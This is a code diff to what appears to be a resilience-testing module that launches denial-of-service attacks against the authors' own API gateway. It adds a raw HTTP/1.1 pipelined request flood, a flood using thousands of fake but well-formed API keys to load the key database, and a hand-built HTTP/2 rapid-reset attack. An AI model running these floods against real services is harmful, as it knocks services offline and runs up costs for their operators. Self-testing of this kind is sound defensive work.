@@ -10,17 +10,16 @@ import contextlib
 import dataclasses
 import itertools
 import json
+import re
 import resource
 import sys
 import time
-from collections.abc import Awaitable, Callable, Mapping
+from collections.abc import Awaitable, Callable, Iterator, Mapping
 from dataclasses import dataclass, field
 from typing import Final
 
 import aiohttp
-import h2.config
-import h2.connection
-import h2.exceptions
+import hpack
 
 from attacks.shapes import SHAPES, filled
 from meter.identity.keys.key_text import mint
@@ -31,7 +30,9 @@ SLOW_READERS: Final = "slow readers"
 ABANDONED: Final = "abandoned requests"
 # The upstream answers requests with this header as the campaign told it for the attack.
 ATTACK_HEADER: Final = "x-attack"
+API_FLOOD: Final = "flood of the API"
 CHAT: Final = "/v1/chat/completions"
+API_PATH: Final = "/api/v1/credits"
 SEARCHING_MODEL: Final = "openai/gpt-4o-mini-search-preview"
 FLOOD_CONNECTIONS: Final = 48
 DRAINING_CONNECTIONS: Final = 100
@@ -39,13 +40,23 @@ BODY_CONNECTIONS: Final = 3
 WITHHOLDING_CONNECTIONS: Final = 200
 DECLARED_BYTES: Final = 20 * 2**20
 PIECE: Final = b" " * 2**20
+MADE_UP_CONNECTIONS: Final = 400
+MADE_UP_KEYS: Final = 20_000
 H2_RESETS_AT_ONCE: Final = 50
+RESETTING_CONNECTIONS: Final = 8
 PAUSE_S: Final = 0.02
 LEAVING_CONNECTIONS: Final = 12
 # Clients leave before the headers of the reply, or in the middle of it: see `campaign`.
 LEAVES_AFTER_S: Final = (0.15, 0.6)
 # Written when the attack begins; what it spent follows at its end.
 BEGUN: Final = b"begun\n"
+_CONTENT_LENGTH: Final = re.compile(rb"content-length: (\d+)")
+_DATA_FRAME, _HEADERS_FRAME, _RST_STREAM_FRAME = 0, 1, 3
+_END_STREAM, _END_HEADERS = 1, 4
+_CANCEL: Final = (8).to_bytes(4)
+# The preface of HTTP/2, and settings without any.
+_H2_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
+_MOST_STREAMS: Final = 2**31
 _HEADERS: Final = "host: attacks\r\ncontent-type: application/json\r\n"
 
 
@@ -88,19 +99,16 @@ def small_body(model: str, max_tokens: int = 8) -> bytes:
 async def _ask_without_end(
     target: Target,
     spent: Spent,
-    path: str,
-    headers: Mapping[str, str] | Callable[[], Mapping[str, str]],
-    body: bytes | None,
+    headers: Mapping[str, str],
+    body: bytes,
 ) -> None:
-    url = f"http://{target.host}:{target.port}{path}"
+    url = f"http://{target.host}:{target.port}{CHAT}"
     # Abandoned connections are part of most attacks; the pool must not wait for them.
     timeout = aiohttp.ClientTimeout(total=10)
     async with aiohttp.ClientSession(timeout=timeout) as session:
         while True:
             try:
-                method = "GET" if body is None else "POST"
-                sent = headers() if callable(headers) else headers
-                async with session.request(method, url, data=body, headers=sent) as reply:
+                async with session.post(url, data=body, headers=headers) as reply:
                     await reply.read()
                     spent.note(reply.status)
             except (aiohttp.ClientError, TimeoutError, OSError):
@@ -108,31 +116,83 @@ async def _ask_without_end(
                 await asyncio.sleep(PAUSE_S)
 
 
-def _flood(path: str, connections: int, key: Callable[[Target], str], is_post: bool) -> Run:
-    async def run(target: Target, spent: Spent) -> None:
-        spent.connections = connections
-        headers = {"authorization": f"Bearer {key(target)}", "content-type": "application/json"}
-        body = small_body(target.model) if is_post else None
-        await asyncio.gather(
-            *(_ask_without_end(target, spent, path, headers, body) for _ in range(connections))
-        )
+class _Asker(asyncio.Protocol):
+    """One HTTP/1.1 connection that asks again as soon as it is answered, at little cost."""
 
-    return run
+    def __init__(self, spent: Spent, requests: Iterator[bytes]) -> None:
+        self._spent = spent
+        self._requests = requests
+        self._received = b""
+        self.closed: asyncio.Future[None] = asyncio.get_running_loop().create_future()
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        """Send the first request."""
+        assert isinstance(transport, asyncio.WriteTransport)
+        self._transport = transport
+        transport.write(next(self._requests))
+
+    def data_received(self, data: bytes) -> None:
+        """Send the next request where an answer is complete."""
+        self._received += data
+        head, found, rest = self._received.partition(b"\r\n\r\n")
+        if not found:
+            return
+        length = _CONTENT_LENGTH.search(head)
+        ends = len(rest) >= int(length[1]) if length else rest.endswith(b"0\r\n\r\n")
+        if ends:
+            self._spent.note(int(head.split(maxsplit=2)[1]))
+            self._received = b""
+            self._transport.write(next(self._requests))
+
+    def connection_lost(self, _error: Exception | None) -> None:
+        """Say that the connection has ended."""
+        if not self.closed.done():
+            self.closed.set_result(None)
+
+
+async def _keep_asking(
+    target: Target, spent: Spent, connections: int, requests: Iterator[bytes]
+) -> None:
+    async def one() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                _, asker = await asyncio.get_running_loop().create_connection(
+                    lambda: _Asker(spent, requests), target.host, target.port
+                )
+                await asker.closed
+                spent.note(0)
+            await asyncio.sleep(PAUSE_S)
+
+    spent.connections = connections
+    await asyncio.gather(*(one() for _ in range(connections)))
+
+
+def _request(method: str, path: str, key: str, body: bytes = b"") -> bytes:
+    head = f"{method} {path} HTTP/1.1\r\n{_HEADERS}authorization: Bearer {key}\r\n"
+    return f"{head}content-length: {len(body)}\r\n\r\n".encode() + body
+
+
+async def _flood(target: Target, spent: Spent) -> None:
+    asked = _request("POST", CHAT, target.key, small_body(target.model))
+    await _keep_asking(target, spent, FLOOD_CONNECTIONS, itertools.repeat(asked))
+
+
+def _with_made_up_keys(method: str, path: str, body: bytes) -> Iterator[bytes]:
+    """Yield requests with another key each time, none of which there is."""
+    # Of the right form, so that only the database can tell. That each is unknown is forgotten long
+    # before its next turn.
+    keys = [mint().plain.reveal() for _ in range(MADE_UP_KEYS)]
+    return itertools.cycle([_request(method, path, key, body) for key in keys])
 
 
 async def _make_up_keys(target: Target, spent: Spent) -> None:
-    """Ask with another key each time, none of which there is."""
-    spent.connections = FLOOD_CONNECTIONS
-    body = small_body(target.model)
+    asked = _with_made_up_keys("POST", CHAT, small_body(target.model))
+    await _keep_asking(target, spent, MADE_UP_CONNECTIONS, asked)
 
-    def headers() -> Mapping[str, str]:
-        # Of the right form, so that only the database can tell.
-        key = mint().plain.reveal()
-        return {"authorization": f"Bearer {key}", "content-type": "application/json"}
 
-    await asyncio.gather(
-        *(_ask_without_end(target, spent, CHAT, headers, body) for _ in range(FLOOD_CONNECTIONS))
-    )
+async def _flood_the_api(target: Target, spent: Spent) -> None:
+    asked = _with_made_up_keys("GET", API_PATH, b"")
+    await _keep_asking(target, spent, FLOOD_CONNECTIONS, asked)
 
 
 def _drain(key: Callable[[Target], str]) -> Run:
@@ -143,22 +203,19 @@ def _drain(key: Callable[[Target], str]) -> Run:
         headers = {"authorization": f"Bearer {key(target)}", "content-type": "application/json"}
         body = small_body(SEARCHING_MODEL, max_tokens=1)
         await asyncio.gather(
-            *(
-                _ask_without_end(target, spent, CHAT, headers, body)
-                for _ in range(DRAINING_CONNECTIONS)
-            )
+            *(_ask_without_end(target, spent, headers, body) for _ in range(DRAINING_CONNECTIONS))
         )
 
     return run
 
 
-def _flood_of(shape: str) -> Run:
+def _flood_of(shape: str, key: Callable[[Target], str]) -> Run:
     async def run(target: Target, spent: Spent) -> None:
         spent.connections = BODY_CONNECTIONS
         body = filled(SHAPES[shape], target.model)
-        headers = {"authorization": f"Bearer {target.key}", "content-type": "application/json"}
+        headers = {"authorization": f"Bearer {key(target)}", "content-type": "application/json"}
         await asyncio.gather(
-            *(_ask_without_end(target, spent, CHAT, headers, body) for _ in range(BODY_CONNECTIONS))
+            *(_ask_without_end(target, spent, headers, body) for _ in range(BODY_CONNECTIONS))
         )
 
     return run
@@ -246,32 +303,52 @@ async def _abandon(target: Target, spent: Spent) -> None:
 
 
 async def _reset_rapidly(target: Target, spent: Spent) -> None:
-    """Open HTTP/2 streams and reset each at once."""
-    headers = [
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":authority", "attacks"),
-        (":path", CHAT),
-        ("content-type", "application/json"),
-    ]
-    while True:
-        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
-            reader, writer = await asyncio.open_connection(target.host, target.port)
-            spent.connections += 1
-            peer = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-            peer.initiate_connection()
-            for number in itertools.count():
-                stream = peer.get_next_available_stream_id()
-                peer.send_headers(stream, headers)
-                peer.reset_stream(stream)
-                spent.note(0)
-                if number % H2_RESETS_AT_ONCE == 0:
-                    writer.write(peer.data_to_send())
+    """Send whole requests over HTTP/2, without a credential, and reset each at once."""
+    headers = (
+        (b":method", b"POST"),
+        (b":scheme", b"http"),
+        (b":authority", b"attacks"),
+        (b":path", CHAT.encode()),
+        (b"content-type", b"application/json"),
+    )
+    # Nothing of it enters the tables of the connection, so that each stream sends the same bytes.
+    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in headers])
+    opening = len(block).to_bytes(3) + bytes((_HEADERS_FRAME, _END_HEADERS))
+    body = small_body(target.model)
+    ending = len(body).to_bytes(3) + bytes((_DATA_FRAME, _END_STREAM))
+    reset = (4).to_bytes(3) + bytes((_RST_STREAM_FRAME, 0))
+
+    def streams(first: int) -> bytes:
+        return b"".join(
+            opening
+            + (number := stream.to_bytes(4))
+            + block
+            + ending
+            + number
+            + body
+            + reset
+            + number
+            + _CANCEL
+            for stream in range(first, first + 2 * H2_RESETS_AT_ONCE, 2)
+        )
+
+    async def one() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                reader, writer = await asyncio.open_connection(target.host, target.port)
+                spent.connections += 1
+                writer.write(_H2_PREFACE)
+                for first in range(1, _MOST_STREAMS, 2 * H2_RESETS_AT_ONCE):
+                    writer.write(streams(first))
                     await writer.drain()
+                    spent.statuses[0] = spent.statuses.get(0, 0) + H2_RESETS_AT_ONCE
                     if reader.at_eof() or writer.is_closing():
                         break
                     await asyncio.sleep(0)
-        await asyncio.sleep(PAUSE_S)
+                writer.close()
+            await asyncio.sleep(PAUSE_S)
+
+    await asyncio.gather(*(one() for _ in range(RESETTING_CONNECTIONS)))
 
 
 RUNS: Final[Mapping[str, Run]] = {
@@ -280,12 +357,12 @@ RUNS: Final[Mapping[str, Run]] = {
     ABANDONED: _abandon,
     "rapid resets": _reset_rapidly,
     "made-up keys": _make_up_keys,
-    "flood of one account": _flood(CHAT, FLOOD_CONNECTIONS, lambda target: target.key, True),
-    "flood without credit": _flood(CHAT, FLOOD_CONNECTIONS, lambda target: target.poor_key, True),
-    "flood of the API": _flood("/api/v1/me", FLOOD_CONNECTIONS, lambda target: "none", False),
+    "flood of one account": _flood,
+    "flood without credit": _flood_of("many members", lambda target: target.poor_key),
+    API_FLOOD: _flood_the_api,
     PARALLEL_SEARCHES: _drain(lambda target: target.searcher_key),
     EXCEEDED_HOLDS: _drain(lambda target: target.exceeder_key),
-    **{f"bodies: {shape}": _flood_of(shape) for shape in SHAPES},
+    **{f"bodies: {shape}": _flood_of(shape, lambda target: target.key) for shape in SHAPES},
 }
 
 
